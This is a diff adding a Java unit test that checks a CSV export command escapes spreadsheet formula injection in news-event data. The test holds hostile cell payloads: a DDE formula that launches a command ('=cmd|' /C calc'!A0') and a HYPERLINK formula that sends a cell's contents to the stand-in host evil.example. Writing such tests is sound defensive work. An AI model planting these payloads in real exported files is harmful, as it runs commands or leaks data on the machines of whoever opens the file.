@@ -35,6 +35,27 @@ class ExportCommandTest {
     }
 
     @Test
+    void csvCellsFromArticlesCannotRunAsFormulas() throws Exception {
+        MergedEvent hostile = new MergedEvent("2016-10-08", "stated", "=cmd|' /C calc'!A0", "RUS", "VETO/REJECT",
+                "129", "12", 3, -5.0, "@SUM(A1)", null, "+Aleppo", 0.75, 1, List.of("AFP"),
+                List.of(new Source("a1", "AFP", "-1+1 said the text", 0, 10)));
+        StoryRecord story = new StoryRecord("story-1", "Aleppo", List.of(), List.of(), List.of(hostile), List.of(),
+                List.of(), List.of(), List.of(), List.of());
+        StringWriter out = new StringWriter();
+
+        new ExportCommand().write(List.of(story), Map.of("a1", "=HYPERLINK(\"http://evil.example/?leak=\"&A1)"),
+                out);
+
+        String row = out.toString().lines().toList().get(1);
+        for (String cell : row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
+            String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
+            assertThat(unquoted).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+")
+                    .doesNotStartWith("@");
+        }
+        assertThat(row).contains("'=cmd", "'@SUM(A1)", "'+Aleppo", "'-1+1 said", "\"'=HYPERLINK(", ",-5.0,");
+    }
+
+    @Test
     void jsonlKeepsTheStoryAndEverySource() throws Exception {
         ExportCommand command = new ExportCommand();
         command.format = ExportCommand.Format.jsonl;
